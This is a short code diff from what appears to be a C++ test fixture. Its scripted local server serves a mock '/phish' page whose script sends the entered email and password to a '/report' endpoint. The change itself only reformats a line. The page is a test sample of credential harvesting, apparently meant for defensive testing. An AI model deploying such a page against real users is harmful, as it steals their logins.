@@ -30,7 +30,8 @@ public:
             "  location.href = '/report?email=' + value('email') + '&pass=' + value('pass');"
             "}, 2000);</script></body></html>";
         server_.Script("/phish", page);
-        server_.Script("/report", testsupport::ScriptedReply{.headers = {{"Content-Type", "text/html"}}, .body = "thanks"});
+        server_.Script("/report",
+                       testsupport::ScriptedReply{.headers = {{"Content-Type", "text/html"}}, .body = "thanks"});
     }
 
     int Port() const { return server_.Port(); }
